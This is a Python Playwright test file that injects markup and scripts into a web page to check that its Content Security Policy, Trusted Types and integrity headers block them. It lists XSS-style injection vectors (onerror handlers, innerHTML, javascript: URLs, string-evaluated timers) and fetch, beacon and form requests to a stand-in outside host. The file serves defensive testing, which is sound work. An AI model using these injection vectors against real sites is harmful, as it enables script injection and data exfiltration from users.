"""What the headers forbid is tried in a real browser: each must fail, and each must work on the same page without them.

Comparing the headers with a text (test_headers.py) shows that they are sent, not that a browser heeds them. Here a page
is altered on its way, as whoever finds a hole in it would, or a script in it does what such a one would make it do.
"""

import hashlib
import re
from base64 import b64encode
from collections.abc import Iterator

import msgspec
import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, Route

from tests.browser import NewPage
from tests.builders import OPENS
from tests.survey.web.scripted import Site, open_site

ELSEWHERE = "https://elsewhere.example"
RUN = "window.ran = true"
_HASH = "sha384-" + b64encode(hashlib.sha384(RUN.encode()).digest()).decode()
SETTLED_MS = 150


class Trial(msgspec.Struct, frozen=True):
    """Something to forbid: *markup* that gets into the page, or *script* that runs in it. *done*: whether it worked,
    as the page tells it; a request that reaches another host always is.
    """

    name: str
    markup: str = ""
    script: str = ""
    done: str = "window.ran === true"


def element(tag: str, do: str) -> str:
    """A script that makes *tag*, does something with it, and puts it into the page."""
    return f"const one = document.createElement('{tag}'); {do}; document.body.append(one)"


TRIALS = (
    Trial("innerHTML", script=element("div", f"one.innerHTML = '<img src=x onerror=\"{RUN}\">'")),
    Trial(
        "insertAdjacentHTML", script=f"document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"{RUN}\">')"
    ),
    Trial("document.write", script="document.write('<b id=put></b>')", done="!!document.querySelector('#put')"),
    Trial("DOMParser", script="window.ran = !!new DOMParser().parseFromString('<b></b>', 'text/html')"),
    Trial("script text", script=element("script", f"one.text = '{RUN}'")),
    Trial("script text node", script=element("script", f"one.append('{RUN}')")),
    Trial("script src", script=element("script", "one.src = '/plain.js'")),
    Trial("script src elsewhere", script=element("script", f"one.src = '{ELSEWHERE}/x.js'")),
    Trial("srcdoc", script=element("iframe", f"one.srcdoc = '<script>parent.{RUN[7:]}</script>'")),
    Trial("createPolicy", script=f"trustedTypes.createPolicy('x', {{ createHTML: (text) => text }}); {RUN}"),
    Trial("default policy", script=f"trustedTypes.createPolicy('default', {{ createHTML: (text) => text }}); {RUN}"),
    Trial("text as code", script=f"setTimeout('{RUN}', 0)"),
    Trial("handler attribute", script=element("button", f"one.setAttribute('onclick', '{RUN}'); one.click()")),
    Trial("javascript: address", script=element("a", f"one.href = 'javascript:void({RUN})'; one.click()")),
    Trial("blob worker", script=f"new Worker(URL.createObjectURL(new Blob(['0']))).onerror = null; {RUN}"),
    Trial("fetch elsewhere", script=f"await fetch('{ELSEWHERE}/')"),
    Trial("beacon elsewhere", script=f"navigator.sendBeacon('{ELSEWHERE}/', 'x')"),
    Trial("picture elsewhere", script=element("img", f"one.src = '{ELSEWHERE}/x.png'")),
    Trial("form elsewhere", script=element("form", f"one.action = '{ELSEWHERE}/'") + "; one.submit()"),
    Trial("form elsewhere, written", markup=f'<form id="f" action="{ELSEWHERE}/"></form>', script="f.submit()"),
    Trial("inline script", markup=f"<script>{RUN}</script>"),
    Trial("inline module", markup=f"<script type=module>{RUN}</script>"),
    Trial("inline handler", markup=f'<img src="/none.png" alt="" onerror="{RUN}">'),
    Trial(
        "inline style", markup='<p id="p" style="color: #010203">', done="getComputedStyle(p).color === 'rgb(1, 2, 3)'"
    ),
    Trial(
        "style element",
        markup="<style>#p{color:#010203}</style><p id=p>",
        done="getComputedStyle(p).color === 'rgb(1, 2, 3)'",
    ),
    Trial("style sheet elsewhere", markup=f'<link rel="stylesheet" href="{ELSEWHERE}/x.css">'),
    Trial("frame elsewhere", markup=f'<iframe src="{ELSEWHERE}/"></iframe>'),
    Trial("object elsewhere", markup=f'<object data="{ELSEWHERE}/x.svg"></object>'),
    Trial(
        "base elsewhere", markup=f'<base href="{ELSEWHERE}/">', done="document.baseURI.startsWith('https://elsewhere')"
    ),
    Trial("script elsewhere", markup=f'<script src="{ELSEWHERE}/x.js" integrity="{_HASH}" crossorigin></script>'),
    Trial("script without integrity", markup='<script src="/plain.js"></script>'),
)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    with open_site(tmp_path_factory.mktemp("policy")) as site:
        site.world.clock.move_to(OPENS)
        yield site


class Laboratory:
    """A tab for each trial; the page that it is given, altered on its way, with the server's headers or with none."""

    def __init__(self, context: BrowserContext, site: Site) -> None:
        self.context, self.address = context, site.entry + "/tillganglighet"
        self.guarded, self.markup = True, ""
        self.reached: list[str] = []
        context.route(self.address, self._alter)
        context.route("**/plain.js", lambda route: route.fulfill(body=RUN, content_type="text/javascript"))
        context.route(ELSEWHERE + "/**", self._answer)

    def _alter(self, route: Route) -> None:
        answer = route.fetch()
        body = answer.text()
        assert body.count("</body>") == 1
        route.fulfill(
            body=body.replace("</body>", self.markup + "</body>"), headers=kept(answer.headers, guarded=self.guarded)
        )

    def _answer(self, route: Route) -> None:
        self.reached.append(route.request.url)
        route.fulfill(body=RUN, content_type="text/javascript", headers={"access-control-allow-origin": "*"})

    def tried(self, trial: Trial, *, guarded: bool) -> bool:
        """Whether what is to be forbidden happened."""
        self.reached.clear()
        self.guarded, self.markup = guarded, trial.markup
        page = self.context.new_page()  # a trial may lead its tab elsewhere while the next one begins
        try:
            page.goto(self.address)
            _do(page, f"async () => {{ try {{ {trial.script} }} catch {{}} }}")
            for _ in range(1 if guarded else 50):
                page.wait_for_timeout(SETTLED_MS)
                if self.reached or _do(page, f"() => {trial.done}"):
                    return True
            return False
        finally:
            page.close()


def _do(page: Page, script: str) -> bool:
    try:
        return bool(page.evaluate(script))
    except Error:  # what was tried may have led the tab to another page
        return False


def kept(headers: dict[str, str], *, guarded: bool) -> dict[str, str]:
    """What the server sent, or of it no more than the kind; how the body was packed is true no longer."""
    if not guarded:
        return {"content-type": headers["content-type"]}
    return {name: value for name, value in headers.items() if name not in {"content-encoding", "content-length"}}


@pytest.fixture(scope="module")
def laboratory(chromium: Browser, site: Site) -> Iterator[Laboratory]:
    context = chromium.new_context()
    context.set_default_timeout(10_000)
    yield Laboratory(context, site)
    context.close()


@pytest.mark.parametrize("trial", TRIALS, ids=lambda trial: trial.name)
def test_what_is_forbidden_fails_and_works_without_the_headers(laboratory: Laboratory, trial: Trial) -> None:
    assert laboratory.tried(trial, guarded=False), "it would not have worked anyway, so the headers are not tried"
    assert not laboratory.tried(trial, guarded=True)


def test_a_script_of_our_own_with_its_integrity_runs(laboratory: Laboratory) -> None:
    """So it is the missing integrity that stops the others, and not all that is put into the page."""
    ours = Trial("ours", markup=f'<script src="/plain.js" integrity="{_HASH}" crossorigin></script>')
    assert laboratory.tried(ours, guarded=True)
    assert not laboratory.tried(
        msgspec.structs.replace(ours, markup=ours.markup.replace("384-", "384-A")), guarded=True
    )


@pytest.mark.parametrize(
    ("tampered", "marked", "guarded", "runs"),
    [
        (False, True, True, True),
        (True, True, True, False),  # the digest in the tag
        (True, False, True, False),  # the policy that asks for one
        (True, True, False, False),  # the digest alone, too
        (True, False, False, True),
    ],
)
def test_a_tampered_script_does_not_run(
    new_page: NewPage, site: Site, tampered: bool, marked: bool, guarded: bool, runs: bool
) -> None:
    page = new_page()

    def page_of(route: Route) -> None:
        answer = route.fetch()
        body = answer.text()
        assert 'integrity="sha384-' in body
        route.fulfill(
            body=body if marked else re.sub(r' integrity="sha384-[^"]*"', "", body),
            headers=kept(answer.headers, guarded=guarded),
        )

    def script_of(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(
            body=answer.text() + (f";{RUN}" if tampered else ""), headers=kept(answer.headers, guarded=guarded)
        )

    page.route(site.entry, page_of)
    page.route("**/static/answer.*.js", script_of)
    page.goto(site.entry)
    page.wait_for_timeout(SETTLED_MS)
    ran = "html[data-level=b]"
    if runs:
        page.wait_for_selector(ran, state="attached")
    assert page.evaluate("window.ran === true") is (runs and tampered)
    assert page.locator(ran).count() == int(runs)
    assert page.locator("#code").count() == 1, "the page works without it"
